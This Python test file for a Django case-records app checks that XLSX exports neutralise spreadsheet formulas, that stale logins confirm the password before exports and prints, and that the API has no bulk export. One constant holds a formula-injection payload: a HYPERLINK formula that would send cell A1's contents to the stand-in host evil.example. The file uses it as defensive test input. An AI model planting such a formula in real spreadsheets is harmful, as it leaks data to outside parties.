"""Document exports and prints: no workbook cell is a formula (OWASP CSV/formula injection,
issue #11 item 6), and a login an hour old confirms the password before a dossier or record is
exported, downloaded or printed, then comes back to the page it left (SECURITY.md S6). The API
offers no bulk export (the decision for tokens, which carry no login time)."""

import io
from datetime import UTC, datetime
from urllib.parse import parse_qs, urlsplit

import openpyxl
import pytest
import time_machine
from django.test import Client
from django.urls import get_resolver

from casebook.accounts.roles import Role
from casebook.accounts.services import api_token_create
from casebook.accounts.tests.stepup import REAUTH, age_login, confirm
from casebook.audit.models import AuditEvent
from casebook.reports import services
from casebook.reports.models import Export
from conftest import login

from .conftest import add_record
from .test_exports import export

START = datetime(2026, 11, 30, 1, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def _next(response) -> str:
    assert response.status_code == 302 and response["Location"].startswith(REAUTH)
    return parse_qs(urlsplit(response["Location"]).query)["next"][0]


def _no_export_happened():
    assert not Export.objects.exists()
    assert not AuditEvent.objects.filter(action__contains="export").exists()
    assert not AuditEvent.objects.filter(action="dossier.print").exists()


# --- formula injection in the workbook ------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("anchor", ["subject", "record"])
def test_xlsx_export_neutralises_formulas(crew, person, anchor, django_capture_on_commit_callbacks):
    record = add_record(crew["officer"], [person], text=EVIL)
    target = {"subject": person} if anchor == "subject" else {"record": record}
    done = export(crew["analyst"], fmt="xlsx", capture=django_capture_on_commit_callbacks, **target)
    data = services.export_download(actor=crew["analyst"], export=done)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
    evil = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert evil, "the record's text is in the workbook"
    for cell in evil:
        assert cell.data_type != "f" and cell.data_type == "s"
        assert cell.value.startswith("'" + EVIL)
    assert not any(c.data_type == "f" for c in cells)
    assert not any(str(c.value).startswith(("=", "+", "-", "@")) for c in cells)


# --- step-up before exports and prints ------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("anchor", ["subject", "record"])
def test_stale_login_confirms_before_requesting_an_export(crew, person, anchor):
    analyst = crew["analyst"]
    record = add_record(crew["officer"], [person])
    form = {"fmt": "pdf", "purpose": "季度案卷检查"}
    if anchor == "subject":
        form["subject"] = person.pk
        page = f"{person.get_absolute_url()}?tab=archive"
    else:
        form["record"] = record.pk
        page = record.get_absolute_url()
    with time_machine.travel(START, tick=False) as clock:
        client = login(Client(), analyst)
        age_login(client, clock, 60)
        stale = client.post("/reports/exports/new/", form)
        assert _next(stale) == page  # a POST returns to the page of its form
        _no_export_happened()

        back = confirm(client, analyst, stale["Location"])
        assert back.status_code == 302 and back["Location"] == page
        assert client.get(page).status_code == 200
        done = client.post("/reports/exports/new/", form)
    made = Export.objects.get()
    assert done.status_code == 302 and done["Location"] == made.get_absolute_url()
    assert AuditEvent.objects.filter(action="export.request", actor_id=analyst.pk).count() == 1


@pytest.mark.django_db
def test_stale_login_confirms_before_downloading_an_export(
    crew, person, django_capture_on_commit_callbacks
):
    analyst = crew["analyst"]
    with time_machine.travel(START, tick=False) as clock:
        done = export(analyst, person, capture=django_capture_on_commit_callbacks)
        url = f"/reports/exports/{done.pk}/download/"
        client = login(Client(), analyst)
        age_login(client, clock, 60)
        stale = client.get(url)
        assert _next(stale) == url
        assert not AuditEvent.objects.filter(action="export.download").exists()
        back = confirm(client, analyst, stale["Location"])
        assert back["Location"] == url
        response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert AuditEvent.objects.filter(action="export.download").count() == 1


@pytest.mark.django_db
def test_stale_login_confirms_before_printing(crew, person):
    analyst = crew["analyst"]
    url = f"/reports/archive/{person.pk}/print/"
    page = f"{person.get_absolute_url()}?tab=archive"
    with time_machine.travel(START, tick=False) as clock:
        client = login(Client(), analyst)
        age_login(client, clock, 60)
        stale = client.post(url, {"purpose": "案卷检查"})
        assert _next(stale) == page
        _no_export_happened()
        confirm(client, analyst, stale["Location"])
        printed = client.post(url, {"purpose": "案卷检查"})
    assert printed.status_code == 200 and person.name in printed.content.decode()
    assert AuditEvent.objects.filter(action="dossier.print").count() == 1


@pytest.mark.django_db
def test_a_post_without_a_form_page_returns_to_the_referring_page_of_this_site(crew, person):
    analyst = crew["analyst"]
    with time_machine.travel(START, tick=False) as clock:
        client = login(Client(), analyst)
        age_login(client, clock, 60)
        own = client.post("/reports/exports/new/", {}, HTTP_REFERER="http://testserver/reports/")
        foreign = client.post("/reports/exports/new/", {}, HTTP_REFERER="https://evil.example/")
    assert _next(own) == "http://testserver/reports/"
    assert _next(foreign) == "/"
    _no_export_happened()


@pytest.mark.django_db
def test_out_of_scope_user_gets_404_and_no_export(org, make_user, person):
    other = make_user(Role.TRACKING_OFFICER, org["b"])  # an officer of station B
    with time_machine.travel(START, tick=False):
        client = login(Client(), other)
        response = client.post(
            "/reports/exports/new/", {"fmt": "pdf", "purpose": "x", "subject": person.pk}
        )
        printed = client.post(f"/reports/archive/{person.pk}/print/", {"purpose": "x"})
    assert response.status_code == 404 and printed.status_code == 404
    _no_export_happened()


# --- the API: no bulk export ----------------------------------------------------------------


def _api_routes(patterns, prefix=""):
    for p in patterns:
        route = prefix + str(p.pattern)
        if hasattr(p, "url_patterns"):
            yield from _api_routes(p.url_patterns, route)
        else:
            yield route


def test_the_api_offers_no_bulk_or_document_export():
    """Tokens carry no login time, so they cannot pass a step-up: bulk and document exports
    exist only in the web UI (purpose, step-up, seal). A new export endpoint in the API must
    come with its own decision (e.g. an export-scoped token), not slip in."""
    routes = [r for r in _api_routes(get_resolver().url_patterns) if r.startswith("api/")]
    assert routes
    words = ("export", "download", "csv", "xlsx", "print", "dossier", "archive")
    assert not [r for r in routes if any(w in r.lower() for w in words)]


@pytest.mark.django_db
def test_api_lists_cannot_be_widened_into_a_bulk_export(crew, person):
    for i in range(55):
        add_record(crew["officer"], [person], text=f"记录{i}")
    _token, key = api_token_create(actor=crew["officer"], name="integration")
    api = Client(HTTP_AUTHORIZATION=f"Token {key}")
    page = api.get("/api/v1/records/?page_size=10000&limit=10000").json()
    assert page["count"] == 55 and len(page["results"]) == 50
